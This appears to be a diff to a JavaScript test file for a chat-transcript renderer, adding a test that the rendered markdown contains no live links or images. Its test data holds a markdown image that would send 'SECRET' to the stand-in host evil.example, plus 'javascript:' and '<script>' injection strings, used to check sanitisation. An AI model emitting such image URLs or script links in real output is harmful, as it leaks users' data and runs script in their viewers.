@@ -15,3 +15,8 @@ test('a transcript holds roles and text, oldest first, and no HTML that would ru
   assert.match(markdown, /2 messages/);
   assert.equal(plain, 'Chat (jupyter-resumechat transcript, 2 messages)\n\nUser: hello <script>alert(1)</script>\n\nAssistant: Hi & **welcome**\n');
 });
+
+test('a transcript has no live link or image (a viewer would fetch the URL)', () => {
+  const { markdown } = transcript('Chat', [{ role: 'assistant', content: '![x](https://evil.example/p?d=SECRET) [c](javascript:alert(1))' }]);
+  assert.ok(!markdown.includes(']('), markdown);
+});
